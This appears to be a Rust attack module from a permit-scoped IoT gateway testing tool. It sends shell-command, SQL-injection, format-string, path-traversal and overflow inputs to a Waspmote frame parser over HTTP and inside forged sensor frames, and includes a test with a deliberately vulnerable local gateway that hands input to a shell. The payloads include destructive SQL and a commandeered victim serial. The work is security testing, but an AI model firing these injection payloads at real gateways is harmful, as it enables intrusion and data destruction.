//! `classic-shell-text`: what broke the parser of a gateway on the stage of Black Hat 2018: text that a shell runs and a
//! database obeys, wherever a frame or its request has room for text.
//!
//! Each command makes one and the same file: if it is there afterwards, somebody ran the attacker's words.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

use anyhow::Context as _;
use fivefold_waspmote::{Builder, Encoding, Sender, Sensors, SerialOrder, Table, Text, Value};

use crate::attack::classic::Foe;
use crate::attack::door::Door;
use crate::attack::plan::Plan;
use crate::attack::{Attack, Level, Report, Way};

pub(super) static ATTACK: Attack = Attack {
    name: "classic-shell-text",
    level: Level::Classic,
    property: "no text of a frame or a request is run by anybody",
    way: Way::Process(run),
};

/// Ways of a text into a request.
const REQUESTS: usize = 3;
/// How long a command may take that somebody runs.
const A_WHILE: Duration = Duration::from_millis(500);

fn run(plan: &Plan) -> anyhow::Result<Report> {
    let foe = Foe::new(plan)?;
    let door = Door::of(plan)?;
    let gateway = door.resolve(&foe.means.http)?;
    let mut drawn = [0; 4];
    getrandom::fill(&mut drawn)?;
    let marker = plan.recording.with_file_name(format!("ran-{}", hex::encode(drawn)));
    let texts = texts(&marker);
    let mut attempts = 0;
    for text in &texts {
        let asked: Vec<TcpStream> = requests(text).iter().filter_map(|request| say(&door, gateway, request)).collect();
        attempts += REQUESTS;
        asked.into_iter().for_each(hear);
    }
    let frames: Vec<Vec<u8>> =
        (1..).zip(&texts).map(|(ahead, text)| frame(&foe, ahead, text)).collect::<anyhow::Result<_>>()?;
    attempts += foe.hand_in(&frames)?;
    std::thread::sleep(A_WHILE);
    let ran = marker.exists();
    let note = if ran { "a command of his was RUN" } else { "texts that are commands; none was run" };
    Ok(Report { ran, ..Report::tried(attempts, note) })
}

/// What a shell would run, what a database would obey, and what breaks parsers by itself.
fn texts(marker: &Path) -> Vec<Vec<u8>> {
    let touch = format!("touch {}", marker.display());
    let mut all: Vec<Vec<u8>> = [
        format!("$({touch})"),
        format!("`{touch}`"),
        format!("'; {touch}; '"),
        format!("\"; {touch}; \""),
        format!("x | {touch}"),
        format!("x && {touch}"),
        format!("x\n{touch}\n"),
        "'); DROP TABLE reading; --".to_owned(),
        "' OR '1'='1".to_owned(),
        "1; DELETE FROM reading; --".to_owned(),
        "%n%n%n%s%s%s".to_owned(),
        "../../../../etc/passwd".to_owned(),
    ]
    .map(String::into_bytes)
    .to_vec();
    all.extend([b"a\0b".to_vec(), vec![b'A'; 8 * 1024]]);
    all
}

/// A request with a text in place of the frame, as form and in the address, and one with it in a header.
fn requests(text: &[u8]) -> [Vec<u8>; REQUESTS] {
    const END: &[u8] = b" HTTP/1.0\r\n\r\n";
    let encoded: String = text.iter().map(|byte| format!("%{byte:02X}")).collect();
    let form = [b"frame=".as_slice(), text].concat();
    let head = format!(
        "POST /getpost_frame_parser.php HTTP/1.0\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\n\r\n",
        form.len()
    );
    [
        [head.as_bytes(), &form].concat(),
        [b"GET /getpost_frame_parser.php?frame=".as_slice(), encoded.as_bytes(), END].concat(),
        [b"GET /getpost_frame_parser.php HTTP/1.0\r\nUser-Agent: ".as_slice(), text, b"\r\n\r\n"].concat(),
    ]
}

/// Says something.
fn say(door: &Door, gateway: SocketAddr, request: &[u8]) -> Option<TcpStream> {
    let mut stream = door.connect(gateway).ok()?;
    let _ = stream.write_all(request);
    Some(stream)
}

/// Listens to the beginning of an answer, whatever it is. Who waits for the rest of a request gives none.
fn hear(mut stream: TcpStream) {
    let _ = stream.set_read_timeout(Some(A_WHILE));
    let _ = stream.read(&mut [0; 4096]);
}

/// A well-formed frame in the victim's name that carries the text as a value, as much of it as a frame has room for.
fn frame(foe: &Foe<'_>, ahead: u8, text: &[u8]) -> anyhow::Result<Vec<u8>> {
    let sensors = Sensors::of(Table::Default);
    let sequence = foe.sequence(ahead);
    let sender =
        Sender { serial: foe.victim, order: SerialOrder::BigEndian, node_id: Text::new(b"`id`"), sequence };
    let speaker = sensors.with_tag(b"STR").next().context("the table has no text")?;
    let mut room = text.len().min(100);
    loop {
        let mut frame = Builder::new(&sensors, Encoding::Binary, &sender);
        let value = Value::Text(Text::new(text.get(..room).unwrap_or_default()));
        if frame.add(speaker.id, &[value]).is_ok() {
            return Ok(frame.finish());
        }
        anyhow::ensure!(room > 0, "no text fits into a frame");
        room /= 2;
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::net::TcpListener;
    use std::process::Command;

    use super::*;
    use crate::attack::classic::{Classic, lie};
    use crate::attack::permit::{Permit, ca_of, tests::operator};

    const VICTIM: &str = "111ffd1b3e500f56";

    /// A gateway as that of 2018: what comes as a frame is a word in a command.
    fn gateway(is_weak: bool) -> SocketAddr {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().map_while(Result::ok) {
                let mut request = vec![0; 16 * 1024];
                let len = stream.read(&mut request).unwrap_or(0);
                let request = String::from_utf8_lossy(&request[..len]).into_owned();
                if let Some((_, frame)) = request.split_once("frame=").filter(|_| is_weak) {
                    let _ = Command::new("sh").args(["-c", &format!("echo {frame}")]).output();
                }
                let _ = stream.write_all(b"HTTP/1.0 200 OK\r\n\r\nok");
            }
        });
        address
    }

    fn attacked(is_weak: bool) -> Report {
        let folder = tempfile::tempdir().unwrap();
        let at = folder.path();
        let http = gateway(is_weak);
        let now = crate::clock::now().unwrap();
        let attacks = BTreeSet::from([ATTACK.name.to_owned()]);
        Permit::write(&at.join("p"), &operator(at), BTreeSet::from([http]), attacks, (now, now + 60)).unwrap();
        // A frame that a node of this serial sent.
        let heard = format!("frame={}", hex::encode(lie(VICTIM.parse().unwrap(), 9).unwrap()));
        std::fs::write(at.join("heard"), heard).unwrap();
        let classic = Classic { http: http.to_string(), victim: VICTIM.into(), ..Classic::default() };
        let (permit, ca, recording) = (Some(at.join("p")), ca_of(at), at.join("heard"));
        run(&Plan { permit, ca, recording, classic: Some(classic), ..Plan::default() }).unwrap()
    }

    #[test]
    fn a_gateway_that_gives_frames_to_a_shell_runs_the_attackers_words_and_another_does_not() {
        let (weak, sound) = (attacked(true), attacked(false));
        assert!(weak.ran && weak.attempts > 40, "{weak:?}");
        assert!(!sound.ran && sound.attempts == weak.attempts, "{sound:?}");
    }
}
